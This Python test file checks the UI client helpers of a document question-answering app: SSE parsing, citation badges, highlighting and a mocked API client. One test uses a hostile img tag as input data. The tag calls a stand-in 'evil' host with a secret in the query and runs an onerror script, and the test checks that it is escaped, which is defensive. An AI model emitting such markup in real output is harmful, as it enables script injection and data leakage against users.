"""The UI's pure helpers: the SSE reader, safe answer HTML, source-card highlighting."""

from __future__ import annotations

import json

import httpx

from ui_client import (
    MARK_STYLE,
    ApiClient,
    Done,
    Failed,
    Passage,
    Token,
    answer_html,
    escape_markdown,
    highlight_terms,
    marked_html,
    parse_sse,
    passage_highlights,
    reflow,
    source_card_html,
)


def passage(text: str, **extra: object) -> Passage:
    base: Passage = {
        "n": 1,
        "document_id": "d1",
        "filename": "attention.pdf",
        "page": 7,
        "page_end": 7,
        "section": "5.2 Hardware and Schedule",
        "char_start": 0,
        "char_end": len(text),
        "text": text,
        "score": 0.71,
    }
    base.update(extra)  # type: ignore[typeddict-item]
    return base


def test_parse_sse_reads_events_comments_and_multiline_data() -> None:
    lines = [
        ": keep-alive",
        "event: token",
        'data: {"text": "Hel"}',
        "",
        "event: token",
        'data: {"text": "lo"}',
        "",
        "data: line one",
        "data: line two",
        "",
        "event: done",
        'data: {"answer": "Hello"}',
    ]
    assert list(parse_sse(lines)) == [
        ("token", '{"text": "Hel"}'),
        ("token", '{"text": "lo"}'),
        ("message", "line one\nline two"),
        ("done", '{"answer": "Hello"}'),
    ]


def test_model_output_is_never_rendered_as_markup() -> None:
    hostile = 'Look <img src="http://evil/x?q=secret" onerror="alert(1)"> and $x^2$ ![a](http://e)'
    rendered = answer_html(hostile, [], 0)
    assert "<img" not in rendered
    assert "&lt;img" in rendered
    assert "$" not in rendered  # no math rendering either


def test_citation_markers_become_linked_badges_naming_their_source() -> None:
    sources = [passage("Eight P100 GPUs.")]
    rendered = answer_html("Trained on 8 GPUs [1], see also [2].", sources, 3)
    assert 'href="#pgpt-source-3-1"' in rendered
    assert 'title="attention.pdf, page 7"' in rendered
    assert "not given to the model" in rendered  # [2] points to no passage
    assert "[1]" not in rendered


def test_question_words_are_highlighted_without_stopwords() -> None:
    text = "We trained the big models on 8 P100 GPUs for 3.5 days."
    spans = passage_highlights(passage(text), "How many P100 GPUs were used?", "")
    assert [text[a:b] for a, b in spans] == ["P100", "GPUs"]
    assert "how" not in highlight_terms("How many GPUs [1]?") and "1" not in highlight_terms("[1]")


def test_the_exact_support_span_wins_over_word_matches() -> None:
    text = "Intro sentence. We trained on 8 P100 GPUs. Outro."
    start = text.index("We")
    exact = passage(text, highlight={"start": start, "end": text.index(" Outro"), "page": 7})
    spans = passage_highlights(exact, "P100 GPUs intro outro", "")
    assert [text[a:b] for a, b in spans] == ["We trained on 8 P100 GPUs."]


def test_marked_html_escapes_inside_and_outside_marks() -> None:
    text = "a <b> & c"
    assert marked_html(text, [(2, 5)]) == (f'a <mark style="{MARK_STYLE}">&lt;b&gt;</mark> &amp; c')


def test_source_card_shows_file_pages_section_score_and_highlight() -> None:
    card = source_card_html(
        passage("Eight <GPUs>.\nNext line.", page_end=8), [(6, 12)], anchor="pgpt-source-0-1"
    )
    assert 'id="pgpt-source-0-1"' in card
    assert "attention.pdf" in card and "pages 7–8" in card and "5.2 Hardware" in card
    assert "match 0.71" in card
    assert "&lt;GPUs&gt;</mark>" in card and "<br>" in card


def test_escape_markdown_keeps_file_names_literal() -> None:
    assert escape_markdown("my_file*v2*.pdf") == "my\\_file\\*v2\\*\\.pdf"


def test_reflow_joins_broken_sentences_but_keeps_headings_and_rows() -> None:
    text = "Each training\nbatch has tokens.\n5.2 Hardware\nWe trained\n(3.5 days).\nByteNet 23.75"
    assert reflow(text) == (
        "Each training batch has tokens.\n5.2 Hardware\nWe trained (3.5 days).\nByteNet 23.75"
    )
    assert len(reflow(text)) == len(text)


def test_ask_sends_the_settings_and_key_and_reads_the_stream() -> None:
    seen: list[httpx.Request] = []
    done = {"answer": "Eight [1].", "citations": [], "sources": [], "invalid_citations": []}
    body = (
        'event: token\ndata: {"text": "Eight"}\n\n'
        'event: token\ndata: {"text": " [1]."}\n\n'
        f"event: done\ndata: {json.dumps(done)}\n\n"
    )

    def handle(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, text=body, headers={"content-type": "text/event-stream"})

    client = ApiClient("http://api", "k3y", transport=httpx.MockTransport(handle))
    events = list(client.ask("s1", "How many?", top_k=3, max_tokens=96, temperature=0.2))

    assert events == [Token("Eight"), Token(" [1]."), Done(done)]  # type: ignore[arg-type]
    [request] = seen
    assert request.url.path == "/v1/sessions/s1/query"
    assert request.headers["authorization"] == "Bearer k3y"
    assert json.loads(request.content) == {
        "question": "How many?",
        "top_k": 3,
        "stream": True,
        "max_tokens": 96,
        "temperature": 0.2,
    }


def test_ask_turns_a_503_into_the_passages_found() -> None:
    found = passage("Eight GPUs.")
    error = {"code": "generator_unavailable", "message": "The model is down."}

    def handle(request: httpx.Request) -> httpx.Response:
        return httpx.Response(503, json={"error": error, "sources": [found]})

    client = ApiClient("http://api", transport=httpx.MockTransport(handle))
    [event] = client.ask("s1", "How many?", top_k=3, max_tokens=96, temperature=0.2)
    assert event == Failed("generator_unavailable", "The model is down.", [found])
